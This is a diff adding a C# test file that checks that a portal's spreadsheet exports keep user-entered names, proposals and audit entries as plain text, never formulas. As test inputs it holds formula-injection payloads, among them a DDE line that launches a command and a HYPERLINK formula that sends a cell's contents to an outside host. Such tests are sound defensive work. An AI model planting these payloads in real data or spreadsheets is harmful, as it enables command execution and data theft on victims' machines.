@@ -1,0 +1,93 @@
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Spreadsheet;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using Portal.Domain.Administration;
+using Portal.Domain.Common;
+using Portal.Tests.TestKit;
+using Portal.Web.Documents;
+using Portal.Web.Operations;
+using Portal.Web.Texts;
+
+namespace Portal.Tests.Web;
+
+/// <summary>Files for a spreadsheet program: nothing that somebody wrote becomes a formula, and the trail goes out only as far as one sees it.</summary>
+public class ExportTests
+{
+    private const string Formula = "=HYPERLINK(\"http://ngoai.vn/?\"&A1,\"Bấm\")";
+
+    [Theory]
+    [InlineData("=cmd|' /C calc'!A0")]
+    [InlineData("+1+1")]
+    [InlineData("-1+1")]
+    [InlineData("@SUM(A1:A9)")]
+    [InlineData("\t=1+1")]
+    [InlineData(Formula)]
+    public async Task A_name_that_looks_like_a_formula_stays_a_text_in_the_registers(string name)
+    {
+        await using var portal = await TestPortal.CreateAsync();
+        await portal.ReadAsync(db => db.Database.ExecuteSqlAsync($"UPDATE Staff SET FullName = {name}, Position = {name} WHERE Id = 'S31'"));
+        await portal.ReadAsync(db => db.Database.ExecuteSqlAsync($"UPDATE Areas SET Name = {name} WHERE Id = 'A017'"));
+        portal.Services.GetRequiredService<ReferenceCache>().Invalidate();
+        var context = await portal.Operations.ContextAsync(portal.Person("S06"));
+        foreach (var register in new[] { Registers.Staff, Registers.Areas })
+        {
+            AssertOnlyTexts(OrganisationSheets.Write(context.Directory, register, context.Today, c => c), name);
+        }
+    }
+
+    [Fact]
+    public async Task What_was_written_into_a_proposal_stays_a_text_in_the_sheets_of_the_dossier()
+    {
+        await using var portal = await TestPortal.CreateAsync();
+        var cycle = await portal.CycleAsync("A017");
+        await portal.PassedOnAsync(await portal.AreaCaseAsync(cycle), Reviews.Proposal(suggestions: Reviews.Suggestion() with { Matter = Formula }));
+        var view = (await portal.Services.GetRequiredService<ReviewCycles>().DossierAsync(portal.Person(Reviews.Coordinator), cycle)).Value;
+        var context = await portal.Operations.ContextAsync(portal.Person(Reviews.Coordinator));
+        var documents = portal.Services.GetRequiredService<ReviewDocuments>();
+        AssertOnlyTexts(documents.Make("ho-so.xlsx", view, context)!.Value.Content, Formula);
+        AssertOnlyTexts(documents.Make("theo-doi.xlsx", view, context)!.Value.Content, "Kỳ kiểm điểm");
+    }
+
+    [Fact]
+    public async Task The_trail_of_restricted_reading_is_taken_away_by_auditors_and_that_is_recorded_too()
+    {
+        await using var portal = await TestPortal.CreateAsync();
+        await portal.Operations.RunAsync(portal.Person(Trips.Leader), o =>
+        {
+            o.Audit("Case.RestrictedRead", Formula);
+            return Task.FromResult(Result.Ok);
+        });
+        await portal.NotifyAsync();
+        var audit = portal.Services.GetRequiredService<AuditQueries>();
+        var readings = new AuditFilter { Kind = AuditQueries.Readings };
+        var rows = await audit.ExportAsync(portal.Person(Trips.Head), readings);
+
+        // The taking away is in the file itself: it was recorded first.
+        Assert.Equal([("Audit.Exported", Trips.Head), ("Case.RestrictedRead", Trips.Leader)], rows.Select(r => (r.Act, r.PersonId)));
+        Assert.Equal("Reading", rows[0].Details);
+        var own = await audit.ExportAsync(portal.Person(Trips.Member), new AuditFilter { PersonId = Trips.Leader });
+        Assert.Equal([Trips.Member], own.Select(r => r.PersonId).Distinct());
+        Assert.Equal([("Audit.Exported", Trips.Head)], (await audit.ExportAsync(portal.Person(Trips.Head), readings with { PersonId = Trips.Head, From = VietnamTime.DayOf(portal.Now), To = VietnamTime.DayOf(portal.Now) })).Skip(1).Select(r => (r.Act, r.PersonId)));
+
+        var context = await portal.Operations.ContextAsync(portal.Person(Trips.Head));
+        var cells = AssertOnlyTexts(AuditSheet.Write(rows, context.Directory, portal.Services.GetRequiredService<T>()), Formula);
+        Assert.Contains("Đọc nội dung hạn chế", cells);
+        Assert.Contains("Hoàng Ánh Dương", cells);
+        AssertOnlyTexts(AuditSheet.Write([], context.Directory, portal.Services.GetRequiredService<T>()), "Thời điểm");
+    }
+
+    /// <returns>All texts of the workbook.</returns>
+    private static List<string> AssertOnlyTexts(byte[] workbook, string expected)
+    {
+        using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
+        var cells = document.WorkbookPart!.WorksheetParts.SelectMany(s => s.Worksheet!.Descendants<Cell>()).ToList();
+        var shared = document.WorkbookPart.SharedStringTablePart?.SharedStringTable?.Elements<SharedStringItem>().Select(i => i.InnerText).ToList() ?? [];
+        Assert.NotEmpty(cells);
+        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
+        var texts = cells.Select(c => c.DataType?.Value == CellValues.SharedString ? shared[int.Parse(c.InnerText, System.Globalization.CultureInfo.InvariantCulture)] : c.InnerText).ToList();
+        Assert.Contains(texts, t => t.Contains(expected.Trim(), StringComparison.Ordinal));
+        Assert.All(cells.Where(c => c.InnerText.Contains(expected.Trim(), StringComparison.Ordinal)), c => Assert.Contains(c.DataType!.Value, new[] { CellValues.String, CellValues.InlineString, CellValues.SharedString }));
+        return texts;
+    }
+}
